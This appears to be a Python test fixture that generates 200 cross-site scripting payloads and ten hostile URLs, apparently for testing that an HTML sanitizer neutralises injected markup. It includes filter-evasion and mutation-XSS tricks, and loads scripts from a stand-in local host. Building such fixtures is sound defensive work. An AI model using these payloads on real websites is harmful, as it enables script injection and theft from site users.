"""Two hundred texts that would do something if a page obeyed them: set `window.obeyed`, ask another host."""

from itertools import product

_CALL = "window.obeyed=1"
_ELSEWHERE = "http://127.0.0.1:9/"
_BREAKOUTS = ("", '">', "'>", "</title>", "</textarea>", "-->", "]]>", "</style>", "</p></div>", '"><a href="')
_ACTS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt/x src={_ELSEWHERE}a.js></sCrIpT >",
    f"<img src={_ELSEWHERE}b.png onerror={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<iframe src={_ELSEWHERE}c srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<body onload={_CALL}><input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<a href=javascript:{_CALL}>link</a>",
    f"<a href='java\tscript:{_CALL}'>link</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>link</a>",
    f"<style>@import '{_ELSEWHERE}d.css'; *{{background:url({_ELSEWHERE}e.png)}}</style>",
    f"<link rel=stylesheet href={_ELSEWHERE}f.css><base href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}g'>",
    f"<form action={_ELSEWHERE}h><button formaction=javascript:{_CALL}>go</button></form>",
    f"<object data={_ELSEWHERE}i></object><embed src={_ELSEWHERE}j>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_CALL}&gt;'>",
    f"<p style='background:url({_ELSEWHERE}k)' onmouseover={_CALL}>text</p>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "\u202e\u2066reversed\u0000\u0008\ufffe\u2028 &lt;script&gt; &#x3c;b&#x3e;",
)
PAYLOADS = tuple(f"{breakout}{act}" for breakout, act in product(_BREAKOUTS, _ACTS))
ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}//http://x",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
    "//elsewhere.example/x",
    f'https://mission.example/"><script>{_CALL}</script>',
    f"https://mission.example/' onmouseover={_CALL} '",
    f"\x01javascript:{_CALL}",
    f"java\nscript:{_CALL}",
    "http:relative",
)
assert len(PAYLOADS) == 200
